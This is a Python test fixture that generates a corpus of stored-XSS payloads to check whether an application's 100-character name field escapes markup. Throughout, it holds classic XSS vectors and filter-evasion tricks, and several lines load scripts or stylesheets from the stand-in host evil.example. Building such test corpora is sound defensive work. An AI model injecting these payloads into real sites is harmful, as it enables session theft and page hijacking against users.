"""The stored-XSS corpus for tests/security/test_stored_xss.py: a few dozen base vectors (after the
OWASP XSS filter evasion cheat sheet and PortSwigger's list), each put through variants that break
out of the places text lands in (element text, quoted and unquoted attributes, textarea, title,
script and style blocks, URLs). Every payload fits a 100-character name field."""

from __future__ import annotations

MARK = "rax"  # every payload calls alert with this, so a raw copy is easy to find

BASE = [
    "<script>alert('{m}')</script>",
    "<script src=//evil.example/{m}.js></script>",
    "<img src=x onerror=alert('{m}')>",
    "<img src=x onerror=\"alert('{m}')\">",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<body onload=alert('{m}')>",
    "<iframe src=javascript:alert('{m}')>",
    "<iframe srcdoc='<script>alert(1)</script>'>{m}",
    "<a href=javascript:alert('{m}')>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>{m}</a>",
    "<details open ontoggle=alert('{m}')>",
    "<input autofocus onfocus=alert('{m}')>",
    "<select autofocus onfocus=alert('{m}')>",
    "<video><source onerror=alert('{m}')>",
    "<audio src=x onerror=alert('{m}')>",
    "<marquee onstart=alert('{m}')>",
    "<object data=javascript:alert('{m}')>",
    "<embed src=javascript:alert('{m}')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<form action=javascript:alert('{m}')><button>x</button></form>",
    "<button formaction=javascript:alert('{m}')>x</button>",
    "<base href=//evil.example/{m}/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>{m}",
    "<link rel=stylesheet href=//evil.example/{m}.css>",
    "<style>@import'//evil.example/{m}.css';</style>",
    "<div style=background:url(javascript:alert('{m}'))>",
    "<table background=javascript:alert('{m}')>",
    "<isindex action=javascript:alert('{m}') type=image>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<ScRiPt>alert('{m}')</sCrIpT>",
    "<script>alert(String.fromCharCode(114,97,120))</script>{m}",
    "<img src=`x`onerror=alert('{m}')>",
    "<img/src/onerror=alert('{m}')>",
    "<svg/onload=alert('{m}')//",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "{{{{7*7}}}}{{% debug %}}{m}",
    "${{alert('{m}')}}",
    "javascript:alert('{m}')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={m}",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "%3Cscript%3Ealert('{m}')%3C/script%3E",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
]

# What comes before a payload to break out of where the text is put.
BREAKERS = ["", "\">", "'>", "</textarea>", "</title>", "</script>", "--></style>"]


def _fits(text: str) -> bool:
    return len(text) <= 100


def corpus() -> list[str]:
    payloads: list[str] = []
    for number, base in enumerate(BASE):
        vector = base.format(m=f"{MARK}{number}")
        for breaker in BREAKERS:
            payload = breaker + vector
            if _fits(payload) and payload not in payloads:
                payloads.append(payload)
        upper = vector.upper().replace(MARK.upper(), MARK)
        if _fits(upper) and upper not in payloads:
            payloads.append(upper)
    return payloads


PAYLOADS = corpus()


def dangerous(payload: str) -> bool:
    """Whether a raw copy in a page would be markup (otherwise it is only text, and may appear)."""
    return any(ch in payload for ch in "<>\"'")
